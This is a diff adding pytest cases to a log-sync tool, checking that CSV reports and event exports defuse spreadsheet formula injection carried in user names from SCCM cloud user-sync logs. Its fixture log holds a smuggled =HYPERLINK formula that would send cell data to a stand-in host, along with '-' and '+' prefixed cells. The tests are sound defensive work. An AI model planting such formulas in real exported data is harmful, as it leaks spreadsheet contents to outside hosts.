@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import json
 import os
 import re
@@ -155,6 +156,55 @@ def test_error_lines_escape_the_path() -> None:
 
 def test_visible() -> None:
     assert visible("a\x00b\x1bc\x9bd\u202ee\tf") == "a\\x00b\\x1bc\\x9bd\\u202ee\\tf"
+
+
+FORMULA_LOG = (
+    "Starting user delta sync, raise failure status messages = True  "
+    "$$<SMS_CLOUD_USERSYNC><11-20-2026 17:01:00.000-60><thread=5616 (0x15F0)>\n"
+    'NotifyAccountAddition - SCCM user to add = =HYPERLINK("http://x/?"&A1)@contoso.com  '
+    "$$<SMS_CLOUD_USERSYNC><11-20-2026 17:01:00.000-60><thread=5616 (0x15F0)>\n"
+    'Failed to add user =HYPERLINK("http://x/?"&A1)@contoso.com; reason UserNotFound  '
+    "$$<SMS_CLOUD_USERSYNC><11-20-2026 17:01:00.100-60><thread=5616 (0x15F0)>\n"
+    "NotifyAccountAddition - SCCM user to add = -bob@contoso.com  "
+    "$$<SMS_CLOUD_USERSYNC><11-20-2026 17:01:00.200-60><thread=5616 (0x15F0)>\n"
+    "Failed to add user -bob@contoso.com; reason +Other  "
+    "$$<SMS_CLOUD_USERSYNC><11-20-2026 17:01:00.300-60><thread=5616 (0x15F0)>\n"
+)
+"""Users whose names a spreadsheet would take for formulas, and a reason too."""
+
+
+def test_no_csv_cell_from_a_log_is_a_spreadsheet_formula(tmp_path: Path) -> None:
+    """A name in Active Directory is text anyone with rights to create users writes: opened in
+    a spreadsheet, `=HYPERLINK(…)@contoso.com` in a CSV cell was a formula. Cells that begin
+    with `=`, `+`, `@` or `-` (before anything but a digit) begin with `'` (`report` and
+    `events`, read natively and in pure Python)."""
+    path = tmp_path / "CloudUserSync.log"
+    path.write_text(FORMULA_LOG)
+    rows = list(csv.reader(run("report", "--all", "-f", "csv", str(path)).stdout.decode().splitlines()))
+    assert [row[:3] for row in rows[1:]] == [
+        ["'=HYPERLINK(\"http://x/?\"&A1)@contoso.com", "waiting", "UserNotFound"],
+        ["'-bob@contoso.com", "failed", "'+Other"],
+    ]
+    for pure in ("0", "1"):
+        events = run("events", "-f", "csv", str(path), env={"LOGSYNC_PURE": pure}).stdout.decode()
+        cells = [(row[0], row[8], row[9]) for row in csv.reader(events.splitlines()[1:])]
+        assert cells == [
+            ("sync_started", "", ""),
+            ("user_add_requested", "'=HYPERLINK(\"http://x/?\"&A1)@contoso.com", ""),
+            ("user_add_failed", "'=HYPERLINK(\"http://x/?\"&A1)@contoso.com", "UserNotFound"),
+            ("user_add_requested", "'-bob@contoso.com", ""),
+            ("user_add_failed", "'-bob@contoso.com", "'+Other"),
+        ]
+
+
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [("-5", "-5"), ("-", "-"), ("", ""), ("a=b", "a=b"), ("@x", "'@x"), ("-x", "'-x"), ("+", "'+")],
+)
+def test_a_csv_cell_is_quoted_only_where_it_would_be_a_formula(text: str, cell: str) -> None:
+    from logsync.safety import csv_text
+
+    assert csv_text(text) == cell
 
 
 # -- broken files ----------------------------------------------------------------------------
